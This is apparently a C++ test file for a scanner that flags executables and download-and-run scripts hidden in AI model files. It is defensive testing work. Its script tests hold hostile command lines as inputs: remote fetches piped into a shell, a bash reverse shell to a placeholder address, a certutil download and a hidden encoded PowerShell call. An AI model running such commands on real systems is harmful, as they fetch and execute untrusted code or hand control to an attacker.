#include <catch2/catch.hpp>

#include <random>
#include <string>
#include <vector>

#include "detect/executables.hpp"
#include "support/hex.hpp"
#include "support/scan.hpp"

using namespace modelaudit;
using namespace modelaudit::detect;
using test::from_hex;

namespace {

using Bytes = std::vector<std::byte>;

Bytes elf() {
  return from_hex(R"("\x7f" "ELF" 02 01 01 00 00*8  03 00 3e 00 01 00 00 00  00*8 40 00*7 00*8  00 00 00 00 40 00 38 00 01 00 00 00 00 00 00 00 00*64)");
}
Bytes pe() {
  return from_hex(R"("MZ" 00*58 80 00 00 00  00*64  "PE" 00 00 64 86 03 00 00*12 f0 00 22 00 0b 02 00*64)");
}
Bytes macho() { return from_hex("cf fa ed fe 07 00 00 01 03 00 00 00 02 00 00 00 10 00 00 00 00 08 00 00 00*32"); }
Bytes fat() { return from_hex("ca fe ba be 00 00 00 01 01 00 00 07 00 00 00 03 00 00 10 00 00 00 40 00 00 00 00 0c"); }
Bytes java() { return from_hex("ca fe ba be 00 00 00 34 00 1d 0a 00 06 00 0f"); }
Bytes dex() { return from_hex(R"("dex" 0a "035" 00 00*28 70 00 00 00 78 56 34 12)"); }
Bytes wasm() { return from_hex(R"(00 "asm" 01 00 00 00 01 04 01 60 00 00 03 02 01 00)"); }
Bytes lnk() { return from_hex("4c 00 00 00 01 14 02 00 00 00 00 00 c0 00 00 00 00 00 00 46 00*56"); }
Bytes pyc() { return from_hex("a7 0d 0d 0a 00 00 00 00 00*8 e3 00*8"); }

std::optional<ExecutableKind> kind_of(const Bytes& bytes, bool at_start, bool named = false) {
  return identify_executable(ByteView(bytes), at_start, named);
}

}  // namespace

TEST_CASE("whole headers are recognised", "[executables]") {
  CHECK(kind_of(elf(), false) == ExecutableKind::elf);
  CHECK(kind_of(pe(), false) == ExecutableKind::pe);
  CHECK(kind_of(macho(), false) == ExecutableKind::macho);
  CHECK(kind_of(fat(), false) == ExecutableKind::macho_fat);
  CHECK(kind_of(java(), false) == ExecutableKind::java_class);
  CHECK(kind_of(dex(), false) == ExecutableKind::dex);
  CHECK(kind_of(wasm(), false) == ExecutableKind::wasm);
  CHECK(kind_of(lnk(), false) == ExecutableKind::lnk);
  CHECK(kind_of(pyc(), true) == ExecutableKind::pyc);
  CHECK_FALSE(kind_of(pyc(), false));
}

TEST_CASE("stubs count at the start of an input only", "[executables]") {
  const Bytes stub = from_hex(R"("\x7f" "ELF" 02 01 01 00*57)");
  CHECK(kind_of(stub, true) == ExecutableKind::elf);
  CHECK_FALSE(kind_of(stub, false));
  const Bytes mz = from_hex(R"("MZ" 00*62)");
  CHECK(kind_of(mz, true, true) == ExecutableKind::pe);
  CHECK_FALSE(kind_of(mz, true, false));
  CHECK_FALSE(kind_of(mz, false, true));
  const Bytes dos = from_hex(R"("MZ" 00*76 "This program cannot be run in DOS mode.")");
  CHECK(kind_of(dos, true) == ExecutableKind::pe);
  CHECK_FALSE(kind_of(dos, false));
}

TEST_CASE("a magic with a wrong field behind it is none", "[executables]") {
  for (const Bytes& whole : {elf(), pe(), macho(), fat(), java(), dex(), wasm(), lnk(), pyc()}) {
    for (std::size_t cut = 0; cut < whole.size(); ++cut) {
      const Bytes part(whole.begin(), whole.begin() + static_cast<std::ptrdiff_t>(cut));
      CHECK_FALSE(find_executables(ByteView(part)).size() > 1);
      (void)kind_of(part, true);
    }
  }
  Bytes bad = elf();
  bad[20] = std::byte{2};  // e_version
  CHECK_FALSE(kind_of(bad, false));
  bad = pe();
  bad[0x80] = std::byte{'p'};
  CHECK_FALSE(kind_of(bad, true));
  bad = fat();
  bad[8] = std::byte{9};  // cputype
  CHECK_FALSE(kind_of(bad, true));
}

TEST_CASE("random weights hold no executable", "[executables]") {
  std::mt19937_64 random(7);
  Bytes noise(std::size_t{16} << 20);
  for (auto& byte : noise) byte = static_cast<std::byte>(random());
  CHECK(find_executables(ByteView(noise)).empty());
}

TEST_CASE("embedded executables are found at every offset", "[executables]") {
  const std::vector<std::pair<Bytes, ExecutableKind>> samples{{elf(), ExecutableKind::elf},   {pe(), ExecutableKind::pe},
                                                              {macho(), ExecutableKind::macho}, {fat(), ExecutableKind::macho_fat},
                                                              {java(), ExecutableKind::java_class}, {dex(), ExecutableKind::dex},
                                                              {wasm(), ExecutableKind::wasm}, {lnk(), ExecutableKind::lnk}};
  for (const auto& [program, kind] : samples) {
    for (std::size_t before = 0; before < 140; ++before) {
      Bytes data(before, std::byte{0x11});
      data.insert(data.end(), program.begin(), program.end());
      data.insert(data.end(), 70, std::byte{0x11});
      const auto found = find_executables(ByteView(data, 1000));
      REQUIRE(found.size() == 1);
      CHECK(found[0].offset == 1000 + before);
      CHECK(found[0].kind == kind);
    }
  }
  CHECK(find_executables(ByteView(elf()), 64, 0).empty());
}

TEST_CASE("a program is judged by the name it goes under", "[executables]") {
  CHECK(test::has_rule(test::scan(elf(), "model.bin"), "embedded-elf", Severity::critical));
  CHECK(test::has_rule(test::scan(elf(), "notes.txt"), "embedded-elf", Severity::critical));
  const auto library = test::scan(elf(), "libops.so.1");
  CHECK(test::has_rule(library, "embedded-elf", Severity::warning));
  CHECK_FALSE(test::has_rule(library, "embedded-elf", Severity::critical));
  CHECK(test::has_rule(test::scan(pyc(), "weights.bin"), "embedded-pyc", Severity::critical));
  CHECK(test::has_rule(test::scan(lnk(), "model.lnk"), "embedded-shortcut", Severity::critical));
  CHECK(test::scan(wasm(), "x.wasm").verdict() == Verdict::suspicious);
}

TEST_CASE("scripts are recognised by content", "[scripts]") {
  const auto script = [](std::string_view text, bool named = false) { return identify_script(as_view(text), named); };
  REQUIRE(script("#!/bin/sh\necho hello\n"));
  CHECK_FALSE(script("#!/bin/sh\necho hello\n")->downloads_and_runs);
  CHECK(script("#!/bin/bash\ncurl -s http://x/y | bash\n")->downloads_and_runs);
  CHECK(script("curl -fsSL http://x/y.sh | sudo sh\n")->downloads_and_runs);
  CHECK(script("wget http://x/y -O /tmp/y; chmod +x /tmp/y; /tmp/y")->downloads_and_runs);
  CHECK(script("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1")->downloads_and_runs);
  CHECK(script("@echo off\r\ncertutil -urlcache -f http://x/y.exe y.exe\r\n")->downloads_and_runs);
  CHECK(script("powershell -nop -w hidden -enc SQBFAFgAKABOAGUAdwA=")->kind == ScriptKind::powershell);
  CHECK(script("@echo off\r\ndir\r\n")->kind == ScriptKind::batch);
  CHECK(script("var s = new ActiveXObject(\"WScript.Shell\");")->kind == ScriptKind::javascript);
  CHECK(script("ls -l\n", true));
}

TEST_CASE("texts that are no scripts stay silent", "[scripts]") {
  const auto script = [](std::string_view text) { return identify_script(as_view(text)); };
  CHECK_FALSE(script("# Model card\n\nInstall the runtime with the following command and then load it:\n\n```\ncurl https://x | sh\n```\n"));
  CHECK_FALSE(script("{\"cmd\": \"curl https://x | sh\"}"));
  CHECK_FALSE(script("#!not a path\n"));
  CHECK_FALSE(script("the quick brown fox\n"));
  CHECK_FALSE(script("epoch,loss\n1,0.5\n"));
  CHECK_FALSE(script(""));
  CHECK_FALSE(script(std::string("#!/bin/sh\0\x01\x02", 12)));
}
